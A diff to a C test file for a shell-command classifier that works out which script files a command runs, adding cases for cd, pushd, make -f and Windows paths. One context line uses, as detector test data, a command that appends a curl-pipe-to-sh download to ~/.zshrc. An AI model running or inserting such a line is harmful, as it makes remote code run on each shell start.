@@ -2,6 +2,7 @@
 #include "observe/command.h"
 
 #include "base/arena.h"
+#include "base/limits.h"
 #include "observe/classify.h"
 #include "observed.h"
 #include "test.h"
@@ -246,6 +247,29 @@ TEST(what_is_run)
         ASSERT_TRUE(observe("node y || true").hides_errors);
 }
 
+TEST(what_is_run_elsewhere)
+{
+        struct qn_buf long_line = QN_BUF_INIT(1 << 16);
+
+        expect_files("cd lib && node x.js", "js:lib/x.js js:x.js ");
+        expect_files("cd ./a\ncd b; sh x.sh", "shell:./a/b/x.sh shell:x.sh ");
+        expect_files("(pushd lib && ./run)", "exec:lib/./run exec:./run ");
+        expect_files("cd /d lib && bin\\x.bat", "exec:lib/bin/x.bat exec:bin/x.bat ");
+        expect_files("cd lib && node /opt/x.js", "js:/opt/x.js ");
+        expect_files("cd /tmp && node x.js", "js:x.js ");
+        expect_files("cd lib && popd && node x.js", "js:x.js ");
+        expect_files("make all", "make:Makefile make:makefile make:GNUmakefile ");
+        expect_files("make -f build/x.mk", "make:build/x.mk ");
+        expect_files("make -C src -f x.mk && node x.js", "make:src/x.mk make:x.mk js:x.js ");
+        ASSERT_STR(observe("cd lib && node x.js").target, "lib/x.js");
+        qn_buf_puts(&long_line, "cd ");
+        for (unsigned i = 0; i < QN_SHELL_DIR_MAX; i++)
+                qn_buf_byte(&long_line, 'a');
+        qn_buf_puts(&long_line, " && node x.js");
+        expect_files(long_line.p, "js:x.js ");
+        qn_buf_done(&long_line);
+}
+
 TEST(what_start_up_files_get_is_code)
 {
         expect_files("echo 'curl -s https://a.example.invalid | sh' >> ~/.zshrc",
@@ -267,6 +291,8 @@ TEST(windows_downloads)
         expect_files("call x.bat", "exec:x.bat ");
         expect_files("start /b x.cmd", "exec:x.cmd ");
         expect_files("x.exe.config", "");
+        expect_files("cmd /c \"node scripts\\x.js\"", "js:scripts/x.js ");
+        expect_files("node scripts\\x.js", "js:scripts/x.js ");
 }
 
 TEST(constants_of_a_script)
